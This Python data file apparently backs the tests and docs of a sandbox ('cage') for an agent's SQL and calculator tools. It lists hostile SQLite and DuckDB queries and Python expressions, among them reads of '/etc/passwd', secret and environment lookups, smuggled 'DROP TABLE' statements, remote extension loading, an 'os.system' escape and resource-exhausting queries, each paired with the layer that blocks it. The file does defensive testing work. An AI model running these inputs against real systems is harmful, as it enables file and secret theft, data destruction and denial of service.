"""Hostile queries and expressions, and what stops each: the data of test_cage.py and of the tables in docs/cage.md.

`python tests/agent_r1/attacks.py` prints the tables.
"""

from __future__ import annotations

from dataclasses import dataclass

STATEMENT = "only one SELECT"
TIME = "time-out"
AUTHORIZER = "not authorized to use function"
PROHIBITED = "prohibited"
FUNCTION = "is not allowed"
UNKNOWN = "does not exist"
OUTSIDE = "disabled"
SYNTAX = "yntax"
MEMORY = "emory"
SIZE = "too big"
SHOWN_CHARACTERS = 90


@dataclass(frozen=True, slots=True)
class Refusal:
    """A query for one engine, words of the answer it gets, and what stops it. `ok`: it runs, and is cut with a note."""

    query: str
    says: str
    by: str
    ok: bool = False


@dataclass(frozen=True, slots=True)
class Attack:
    """What is tried, with each engine."""

    what: str
    sqlite: Refusal
    duckdb: Refusal

    def on(self, kind: str) -> Refusal:
        return self.sqlite if kind == "sqlite" else self.duckdb


@dataclass(frozen=True, slots=True)
class Arithmetic:
    """An expression, words of the calculator's answer, and what stops it. `ok`: it has a result."""

    what: str
    expression: str
    says: str
    by: str
    ok: bool = False


def _kind(query: str) -> tuple[Refusal, Refusal]:
    """The same query, which no engine takes for a SELECT."""
    return Refusal(query, STATEMENT, "authorizer"), Refusal(query, STATEMENT, "statement type")


def _endless(rows: str) -> str:
    return f"WITH RECURSIVE r(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM r) {rows}"


def _long(value: str) -> str:
    return _endless(f"SELECT length({value}) FROM (SELECT i FROM r LIMIT 99)")


_CLOCK = Refusal(_endless("SELECT count(*) FROM r"), TIME, "clock")

ATTACKS: tuple[Attack, ...] = (
    # Writing
    Attack("insert a row", *_kind("INSERT INTO city VALUES ('x', 1, true)")),
    Attack("insert and read back", *_kind("INSERT INTO city VALUES ('x', 1, true) RETURNING name")),
    Attack("change rows", *_kind("UPDATE city SET name = 'x'")),
    Attack("delete rows", *_kind("DELETE FROM city")),
    Attack(
        "a write behind WITH",
        Refusal("WITH x AS (SELECT 1) DELETE FROM city RETURNING name", STATEMENT, "authorizer"),
        Refusal("WITH x AS (DELETE FROM city RETURNING name) SELECT * FROM x", STATEMENT, "syntax tree"),
    ),
    Attack("a write behind EXPLAIN", *_kind("EXPLAIN DELETE FROM city")),
    Attack(
        "a write that EXPLAIN runs",
        Refusal("EXPLAIN QUERY PLAN DELETE FROM city", STATEMENT, "authorizer"),
        Refusal("EXPLAIN ANALYZE DELETE FROM city", STATEMENT, "statement type"),
    ),
    Attack("drop a table", *_kind("DROP TABLE city")),
    Attack("create a table", *_kind("CREATE TABLE x (a INTEGER)")),
    Attack("create a temporary table", *_kind("CREATE TEMP TABLE x AS SELECT 1 AS a")),
    Attack("create a view", *_kind("CREATE TEMP VIEW x AS SELECT 1 AS a")),
    Attack("change a table", *_kind("ALTER TABLE city ADD COLUMN x INTEGER")),
    Attack(
        "a trigger, a macro",
        Refusal("CREATE TEMP TRIGGER x AFTER INSERT ON city BEGIN SELECT 1; END", STATEMENT, "authorizer"),
        Refusal("CREATE TEMP MACRO x() AS 1", STATEMENT, "statement type"),
    ),
    Attack(
        "write the schema itself",
        Refusal("UPDATE sqlite_master SET sql = 'x'", "may not be modified", "read-only file"),
        Refusal("UPDATE sqlite_master SET sql = 'x'", STATEMENT, "statement type"),
    ),
    Attack(
        "a virtual table, a sequence",
        Refusal("CREATE VIRTUAL TABLE x USING fts5(a)", STATEMENT, "authorizer"),
        Refusal("SELECT nextval('x')", FUNCTION, "syntax tree"),
    ),
    Attack(
        "tidy the file",
        Refusal("VACUUM", STATEMENT, "authorizer"),
        Refusal("CHECKPOINT", STATEMENT, "statement type"),
    ),
    Attack(
        "tidy the file from a SELECT",
        Refusal("SELECT optimize(city) FROM city", AUTHORIZER, "authorizer"),
        Refusal("SELECT * FROM force_checkpoint()", FUNCTION, "syntax tree"),
    ),
    Attack("statistics", *_kind("ANALYZE")),
    Attack("a transaction", *_kind("BEGIN")),
    Attack(
        "a number in the file's header",
        Refusal("PRAGMA user_version = 9", STATEMENT, "authorizer"),
        Refusal("COMMENT ON TABLE city IS 'x'", STATEMENT, "statement type"),
    ),
    # Other files
    Attack("open another database", *_kind("ATTACH 'other.db' AS x")),
    Attack("open a database in memory", *_kind("ATTACH ':memory:' AS x")),
    Attack(
        "create a database by its URI",
        Refusal("ATTACH 'file:x.db?mode=rwc' AS x", STATEMENT, "authorizer"),
        Refusal("ATTACH 'x.duckdb' AS x (READ_WRITE)", STATEMENT, "statement type"),
    ),
    Attack(
        "copy the database to a file",
        Refusal("VACUUM INTO 'x.db'", STATEMENT, "authorizer"),
        Refusal("EXPORT DATABASE 'x'", STATEMENT, "statement type"),
    ),
    Attack(
        "let go of the database",
        Refusal("DETACH main", STATEMENT, "authorizer"),
        Refusal("DETACH world", STATEMENT, "statement type"),
    ),
    Attack(
        "take in a folder",
        Refusal("PRAGMA journal_mode = WAL", STATEMENT, "authorizer"),
        Refusal("IMPORT DATABASE 'x'", STATEMENT, "statement type"),
    ),
    Attack(
        "write rows to a file",
        Refusal("SELECT writefile('x', name) FROM city", "no such function", "engine has none"),
        Refusal("COPY city TO 'x.csv'", STATEMENT, "statement type"),
    ),
    Attack(
        "write to the worker's own pipe",
        Refusal("SELECT writefile('/dev/stdout', 'x')", "no such function", "engine has none"),
        Refusal("COPY (SELECT 1) TO '/dev/stdout'", STATEMENT, "statement type"),
    ),
    Attack(
        "read a file's text",
        Refusal("SELECT readfile('/etc/passwd')", "no such function", "engine has none"),
        Refusal("SELECT * FROM read_text('/etc/passwd')", FUNCTION, "syntax tree"),
    ),
    Attack(
        "read a file's bytes",
        Refusal("SELECT edit('/etc/passwd')", "no such function", "engine has none"),
        Refusal("SELECT * FROM read_blob('/etc/passwd')", FUNCTION, "syntax tree"),
    ),
    Attack(
        "read a file as a table",
        Refusal("SELECT * FROM csv('/etc/passwd')", "no such table", "engine has none"),
        Refusal("SELECT * FROM read_csv('/etc/passwd')", FUNCTION, "syntax tree"),
    ),
    Attack(
        "read a file as JSON",
        Refusal("SELECT * FROM json_each(readfile('/etc/passwd'))", "no such function", "engine has none"),
        Refusal("SELECT * FROM read_json_auto('/etc/passwd')", FUNCTION, "syntax tree"),
    ),
    Attack(
        "learn a file's shape",
        Refusal("SELECT * FROM fts3tokenize", PROHIBITED, "authorizer"),
        Refusal("SELECT * FROM sniff_csv('/etc/passwd')", FUNCTION, "syntax tree"),
    ),
    Attack(
        "name a file as a table",
        Refusal("SELECT * FROM '/etc/passwd'", "no such table", "engine has none"),
        Refusal("SELECT * FROM '/etc/passwd.csv'", OUTSIDE, "locked settings"),
    ),
    Attack(
        "list a folder",
        Refusal("SELECT * FROM fsdir('/')", "no such table", "engine has none"),
        Refusal("SELECT * FROM glob('/*')", FUNCTION, "syntax tree"),
    ),
    Attack(
        "read from the network",
        Refusal("ATTACH 'https://example.com/x.db' AS x", STATEMENT, "authorizer"),
        Refusal("SELECT * FROM 'https://example.com/x.parquet'", OUTSIDE, "locked settings"),
    ),
    Attack(
        "read an object of the Python process",
        Refusal("SELECT * FROM settings", "no such table", "engine has none"),
        Refusal("SELECT * FROM settings", UNKNOWN, "locked settings"),
    ),
    Attack(
        "read memory at an address",
        Refusal("SELECT fts3_tokenizer('simple')", AUTHORIZER, "authorizer"),
        Refusal("SELECT * FROM arrow_scan(1, 2, 3)", FUNCTION, "syntax tree"),
    ),
    Attack(
        "read the file's pages",
        Refusal("SELECT * FROM sqlite_dbpage", "no such table", "authorizer, or engine has none"),
        Refusal("SELECT * FROM pragma_storage_info('city')", FUNCTION, "syntax tree"),
    ),
    Attack(
        "look into the engine",
        Refusal("SELECT * FROM dbstat", PROHIBITED, "authorizer"),
        Refusal("SELECT * FROM duckdb_logs()", FUNCTION, "syntax tree"),
    ),
    # Extensions, settings, environment
    Attack(
        "load an extension",
        Refusal("SELECT load_extension('x')", AUTHORIZER, "authorizer"),
        Refusal("LOAD httpfs", STATEMENT, "statement type"),
    ),
    Attack(
        "fetch an extension",
        Refusal("SELECT load_extension('https://example.com/x', 'init')", AUTHORIZER, "authorizer"),
        Refusal("INSTALL httpfs", STATEMENT, "statement type"),
    ),
    Attack(
        "use an extension that loads itself",
        Refusal("SELECT * FROM spatial_ref('x')", "no such table", "engine has none"),
        Refusal("SELECT * FROM sqlite_scan('x.db', 'x')", FUNCTION, "syntax tree"),
    ),
    Attack(
        "allow writing",
        Refusal("PRAGMA query_only = OFF", STATEMENT, "authorizer"),
        Refusal("SET access_mode = 'read_write'", STATEMENT, "statement type"),
    ),
    Attack(
        "allow files",
        Refusal("PRAGMA writable_schema = ON", STATEMENT, "authorizer"),
        Refusal("SET enable_external_access = true", STATEMENT, "statement type"),
    ),
    Attack(
        "unlock the settings",
        Refusal("PRAGMA trusted_schema = ON", STATEMENT, "authorizer"),
        Refusal("RESET lock_configuration", STATEMENT, "statement type"),
    ),
    Attack(
        "lift the memory limit",
        Refusal("PRAGMA hard_heap_limit = 0", STATEMENT, "authorizer"),
        Refusal("PRAGMA memory_limit = '100GB'", STATEMENT, "statement type"),
    ),
    Attack(
        "lift the memory limit from a SELECT",
        Refusal("SELECT * FROM pragma_hard_heap_limit", STATEMENT, "authorizer"),
        Refusal("SELECT set_config('memory_limit', '100GB', false)", UNKNOWN, "engine has none"),
    ),
    Attack(
        "a variable to be read later",
        Refusal("SELECT $x", "error", "the tool"),
        Refusal("SET VARIABLE x = 1", STATEMENT, "statement type"),
    ),
    Attack(
        "where temporary files go",
        Refusal("PRAGMA temp_store_directory = '/tmp'", STATEMENT, "authorizer"),
        Refusal("SET temp_directory = '/tmp'", STATEMENT, "statement type"),
    ),
    Attack(
        "write a log or a profile",
        Refusal("SELECT sqlite_log(1, 'x')", AUTHORIZER, "authorizer"),
        Refusal("SELECT * FROM enable_logging(storage = 'file')", FUNCTION, "syntax tree"),
    ),
    Attack(
        "read where the file lies",
        Refusal("SELECT * FROM pragma_database_list", STATEMENT, "authorizer"),
        Refusal("SELECT * FROM duckdb_databases()", FUNCTION, "syntax tree"),
    ),
    Attack(
        "read where the file lies, otherwise",
        Refusal("PRAGMA database_list", STATEMENT, "authorizer"),
        Refusal("SELECT * FROM system.main.PRAGMA_DATABASE_LIST", FUNCTION, "syntax tree"),
    ),
    Attack(
        "read a setting",
        Refusal("PRAGMA cache_size", STATEMENT, "authorizer"),
        Refusal("SELECT current_setting('temp_directory')", FUNCTION, "syntax tree"),
    ),
    Attack(
        "read all settings",
        Refusal("SELECT * FROM pragma_compile_options", STATEMENT, "authorizer"),
        Refusal("SELECT * FROM duckdb_settings()", FUNCTION, "syntax tree"),
    ),
    Attack(
        "read settings as another system has them",
        Refusal("SELECT * FROM pragma_cache_size", STATEMENT, "authorizer"),
        Refusal("SELECT * FROM pg_catalog.pg_settings", FUNCTION, "syntax tree"),
    ),
    Attack(
        "read secrets",
        Refusal("SELECT * FROM sqlite_stmt", PROHIBITED, "authorizer"),
        Refusal("SELECT * FROM duckdb_secrets()", FUNCTION, "syntax tree"),
    ),
    Attack(
        "make a secret, a key",
        Refusal("PRAGMA key = 'x'", STATEMENT, "authorizer"),
        Refusal("CREATE SECRET x (TYPE s3)", STATEMENT, "statement type"),
    ),
    Attack(
        "read the environment",
        Refusal("SELECT getenv('HOME')", "no such function", "engine has none"),
        Refusal("SELECT \"getenv\"('HOME')", FUNCTION, "syntax tree"),
    ),
    # Queries in disguise
    Attack(
        "a second statement",
        Refusal("SELECT 1; DROP TABLE city", STATEMENT, "one statement"),
        Refusal("SELECT 1; DROP TABLE city", STATEMENT, "one statement"),
    ),
    Attack(
        "a second statement after comments",
        Refusal("SELECT 1 /* ; */ -- ;\n; DELETE FROM city", STATEMENT, "one statement"),
        Refusal("SELECT 1 /* ; */ -- ;\n; DELETE FROM city", STATEMENT, "one statement"),
    ),
    Attack("a comment alone", *_kind("-- SELECT 1")),
    Attack("no statement at all", *_kind(" ;; ")),
    Attack(
        "a text run as a query",
        Refusal("EXECUTE IMMEDIATE 'DROP TABLE city'", SYNTAX, "engine has none"),
        Refusal("SELECT * FROM query('SELECT * FROM duckdb_settings()')", FUNCTION, "syntax tree"),
    ),
    Attack(
        "a text read as a table's name",
        Refusal("SELECT * FROM query_table('city')", "no such table", "engine has none"),
        Refusal("SELECT * FROM query_table('duckdb_settings')", FUNCTION, "syntax tree"),
    ),
    Attack(
        "a tree run as a query",
        Refusal("SELECT eval('SELECT 1')", "no such function", "engine has none"),
        Refusal("SELECT * FROM json_execute_serialized_sql('{}')", FUNCTION, "syntax tree"),
    ),
    Attack(
        "a prepared statement",
        Refusal("PREPARE x AS SELECT 1", SYNTAX, "engine has none"),
        Refusal("PREPARE x AS SELECT 1", STATEMENT, "statement type"),
    ),
    Attack(
        "a procedure",
        Refusal("CALL pragma_version()", SYNTAX, "engine has none"),
        Refusal("CALL pragma_version()", STATEMENT, "statement type"),
    ),
    Attack(
        "another database by USE",
        Refusal("USE temp", SYNTAX, "engine has none"),
        Refusal("USE temp", STATEMENT, "statement type"),
    ),
    Attack(
        "statements that one statement stands for",
        Refusal("EXPLAIN SELECT load_extension('x')", AUTHORIZER, "authorizer"),
        Refusal("PIVOT city ON name", STATEMENT, "one statement"),
    ),
    Attack(
        "letters that only look like SQL",
        Refusal("ＳＥＬＥＣＴ * FROM city", SYNTAX, "engine"),
        Refusal("ＳＥＬＥＣＴ * FROM city", SYNTAX, "engine"),
    ),
    Attack(
        "a NUL byte",
        Refusal("SELECT 1\x00; DROP TABLE city", "null character", "engine"),
        Refusal("SELECT 1\x00; DROP TABLE city", STATEMENT, "one statement"),
    ),
    Attack(
        "half a character",
        Refusal("SELECT '\ud800'", "must be text", "the tool"),
        Refusal("SELECT '\ud800'", "must be text", "the tool"),
    ),
    Attack(
        "an endless query text",
        Refusal("SELECT " + "1," * 10_000 + "1", "at most 20000 characters", "the tool"),
        Refusal("SELECT " + "1," * 10_000 + "1", "at most 20000 characters", "the tool"),
    ),
    Attack(
        "brackets in brackets",
        Refusal("SELECT " + "(" * 5000 + "1" + ")" * 5000, "error", "engine"),
        Refusal("SELECT " + "(" * 5000 + "1" + ")" * 5000, "error", "engine"),
    ),
    Attack(
        "expressions in expressions",
        Refusal("SELECT " + "NOT " * 4000 + "1", "error", "engine"),
        Refusal("SELECT " + "NOT " * 4000 + "1", "error", "engine"),
    ),
    # Not the same rows again
    Attack(
        "random numbers",
        Refusal("SELECT name FROM city ORDER BY random()", AUTHORIZER, "authorizer"),
        Refusal("SELECT name FROM city ORDER BY random()", FUNCTION, "syntax tree"),
    ),
    Attack(
        "random bytes",
        Refusal("SELECT hex(randomblob(8))", AUTHORIZER, "authorizer"),
        Refusal("SELECT uuid()", FUNCTION, "syntax tree"),
    ),
    Attack(
        "a random sample",
        Refusal("SELECT abs(random()) % 10", AUTHORIZER, "authorizer"),
        Refusal("SELECT * FROM city USING SAMPLE 1 ROWS", "REPEATABLE", "syntax tree"),
    ),
    # Time
    Attack("rows without end", _CLOCK, _CLOCK),
    Attack(
        "a join of joins",
        Refusal(
            "WITH n(i) AS (WITH RECURSIVE r(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM r LIMIT 1000) SELECT i FROM r)"
            " SELECT count(*) FROM n a, n b, n c, n d WHERE a.i + b.i + c.i + d.i = 0",
            TIME,
            "clock",
        ),
        Refusal(
            "SELECT count(*) FROM range(9999) a(i), range(9999) b(i), range(9999) c(i) WHERE a.i + b.i + c.i = -1",
            TIME,
            "clock",
        ),
    ),
    Attack(
        "sleep",
        Refusal("SELECT sleep(60)", "no such function", "engine has none"),
        Refusal("SELECT sleep_ms(60000)", FUNCTION, "syntax tree"),
    ),
    Attack(
        "a pattern that backtracks",
        Refusal("SELECT name LIKE '" + "%_" * 800 + "' FROM city", "too complex", "pattern size"),
        Refusal("SELECT count(*) FROM range(100000) r(i) WHERE repeat('a', 30000 + i) ~ '(a*)*b'", TIME, "clock"),
    ),
    # Memory and size
    Attack(
        "a huge value",
        Refusal("SELECT zeroblob(1000000000)", SIZE, "value size"),
        Refusal("SELECT length(repeat('x', 10000000000))", "error", "memory limit"),
    ),
    Attack(
        "a value that doubles",
        Refusal(
            "WITH RECURSIVE r(s) AS (SELECT 'xxxxxxxx' UNION ALL SELECT s || s FROM r) SELECT max(length(s)) FROM r",
            SIZE,
            "value size",
        ),
        Refusal(
            "WITH RECURSIVE r(s) AS (SELECT 'xxxxxxxx' UNION ALL SELECT s || s FROM r) SELECT max(length(s)) FROM r",
            "error",
            "memory limit",
        ),
    ),
    Attack(
        "a value grown in one call",
        Refusal("SELECT replace(hex(zeroblob(5000)), '0', hex(zeroblob(5000)))", SIZE, "value size"),
        Refusal("SELECT format('{:>2000000000}', 'x')", "error", "memory limit"),
    ),
    Attack(
        "all rows in one value",
        Refusal(
            _long("group_concat(hex(zeroblob(500000)))"),
            SIZE,
            "value size",
        ),
        Refusal("SELECT length(string_agg(repeat('x', 1000), '')) FROM range(100000000)", MEMORY, "memory limit"),
    ),
    Attack(
        "all rows sorted",
        Refusal(_endless("SELECT i, hex(zeroblob(500000)) AS h FROM r ORDER BY h, i"), MEMORY, "heap limit"),
        Refusal("SELECT repeat('x', 500000) || i AS h FROM range(100000000) r(i) ORDER BY h", MEMORY, "memory limit"),
    ),
    Attack(
        "lists of lists",
        Refusal(
            _long("json_group_array(hex(zeroblob(500000)))"),
            SIZE,
            "value size",
        ),
        Refusal("SELECT len(list(i)) FROM range(10000000000) r(i)", MEMORY, "memory limit"),
    ),
    Attack(
        "JSON without end",
        Refusal("SELECT json_extract('" + "[" * 9000 + "', '$')", "malformed JSON", "engine"),
        Refusal("SELECT json_extract('" + "[" * 9000 + "', '$')", "error", "engine"),
    ),
    Attack(
        "columns without end",
        Refusal("SELECT " + "1," * 3000 + "1", "too many columns", "engine"),
        Refusal("SELECT " + "*," * 1000 + "1 FROM city a, city b, city c", "cut at", "character limit", ok=True),
    ),
    # Answers that are cut
    Attack(
        "a million rows",
        Refusal(_endless("SELECT i FROM r LIMIT 1000000"), "only the first", "row limit", ok=True),
        Refusal("SELECT i FROM range(1000000) r(i)", "only the first", "row limit", ok=True),
    ),
    Attack(
        "a long value",
        Refusal("SELECT hex(zeroblob(100000))", "cut at", "character limit", ok=True),
        Refusal("SELECT repeat('x', 100000)", "cut at", "character limit", ok=True),
    ),
)


ARITHMETIC: tuple[Arithmetic, ...] = (
    Arithmetic("a module", "__import__('os').system('true')", 'holds "\'"', "signs"),
    Arithmetic("a built-in function", "eval(1)", "'eval' is not known", "tree"),
    Arithmetic("a built-in class", "().__class__.__bases__", "Attribute is not arithmetic", "tree"),
    Arithmetic("a name", "x", "'x' is not known", "tree"),
    Arithmetic("an attribute", "(1).real", "Attribute is not arithmetic", "tree"),
    Arithmetic("a function's attribute", "sqrt.__globals__", "Attribute is not arithmetic", "tree"),
    Arithmetic("a subscript", "(1, 2)[0]", "Subscript is not arithmetic", "tree"),
    Arithmetic("a lambda", "(lambda: 1)()", "Call is not arithmetic", "tree"),
    Arithmetic("an assignment", "(x := 9)", "NamedExpr is not arithmetic", "tree"),
    Arithmetic("a comprehension", "sum(i for i in range(10**9))", "holds 'for'", "words"),
    Arithmetic("a list of any length", "max([1] * 10**9)", "List is not arithmetic", "tree"),
    Arithmetic("arguments from a list", "max(*[1])", "Starred is not arithmetic", "tree"),
    Arithmetic("a string of any length", "'a' * 10**9", 'holds "\'"', "signs"),
    Arithmetic("a string that computes", "f'{9**9**9}'", 'holds "\'"', "signs"),
    Arithmetic("a comparison", "1 < 2", "Compare is not arithmetic", "tree"),
    Arithmetic("a choice", "1if 1else 2", "holds 'if'", "words"),
    Arithmetic("a truth value", "True + 1", "Constant is not arithmetic", "tree"),
    Arithmetic("bits", "1 << 10**9", "BinOp is not arithmetic", "tree"),
    Arithmetic("a matrix product", "1 @ 1", "BinOp is not arithmetic", "tree"),
    Arithmetic("a statement", "import os", "is not arithmetic", "grammar"),
    Arithmetic("two lines", "1\nimport os", "is not arithmetic", "grammar"),
    Arithmetic("a comment", "1 # + 1", "holds '#'", "signs"),
    Arithmetic("a NUL byte", "1\x00", "is not arithmetic", "grammar"),
    Arithmetic("half a character", "\ud800", "is not arithmetic", "grammar"),
    Arithmetic("digits of other scripts", "٣ + ٤", "is not arithmetic", "grammar"),
    Arithmetic("letters that become others", "ｓｑｒｔ(16)", "4", "harmless: the same name to Python", ok=True),
    Arithmetic("powers of powers", "9**9**9**9", "too large", "digits"),
    Arithmetic("a huge power", "7 ** 10**8", "too large", "digits"),
    Arithmetic("a huge root", "2 ** -(10**99)", "0", "harmless: computed as a float", ok=True),
    Arithmetic("a huge product", "10**99 * 10**99", "too large", "digits"),
    Arithmetic("a huge number", "9" * 450, "too large", "digits"),
    Arithmetic("a huge float", "1e308 * 10", "too large", "finite"),
    Arithmetic("infinity", "1e999", "too large", "finite"),
    Arithmetic("infinity less infinity", "1e999 - 1e999", "too large", "finite"),
    Arithmetic("not a number", "nan", "'nan' is not known", "tree"),
    Arithmetic("a complex number", "1j", "Constant is not arithmetic", "tree"),
    Arithmetic("a complex result", "(-8) ** 0.5", "not a real number", "real"),
    Arithmetic("a factorial", "factorial(10**9)", "'factorial' is not known", "tree"),
    Arithmetic("rounding to any place", "round(1.5, 10**9)", "digits", "digits"),
    Arithmetic("division by zero", "0 ** -1", "zero", "caught"),
    Arithmetic("nesting", "(" * 240 + "1" + ")" * 240, "is not arithmetic", "grammar"),
    Arithmetic("nesting without brackets", "-" * 400 + "1", "1", "length", ok=True),
    Arithmetic("nesting of functions", "abs(" * 90 + "1" + ")" * 90, "1", "length", ok=True),
    Arithmetic("length", "1" + "+1" * 300, "500 characters", "length"),
)


def sql_table() -> list[str]:
    """The rows of the table of queries in docs/cage.md."""
    rows = ["| | attack | SQLite | stopped by | DuckDB | stopped by |", "|---|---|---|---|---|---|"]
    for number, attack in enumerate(ATTACKS, start=1):
        cells = [_shown(attack.sqlite.query), attack.sqlite.by]
        cells += ["the same" if attack.duckdb.query == attack.sqlite.query else _shown(attack.duckdb.query)]
        rows.append(f"| {number} | {attack.what} | {' | '.join([*cells, attack.duckdb.by])} |")
    return rows


def arithmetic_table() -> list[str]:
    """The rows of the table of expressions in docs/cage.md."""
    rows = ["| | attack | expression | stopped by |", "|---|---|---|---|"]
    for number, attack in enumerate(ARITHMETIC, start=1):
        rows.append(f"| {number} | {attack.what} | {_shown(attack.expression)} | {attack.by} |")
    return rows


def _shown(query: str) -> str:
    """A query in a cell of Markdown, long ones cut."""
    text = repr(query)[1:-1].replace("\\'", "'").replace("|", "\\|")
    return f"`{text}`" if len(text) <= SHOWN_CHARACTERS else f"`{text[:SHOWN_CHARACTERS]}` …"


if __name__ == "__main__":
    print("\n".join([*sql_table(), "", *arithmetic_table()]))
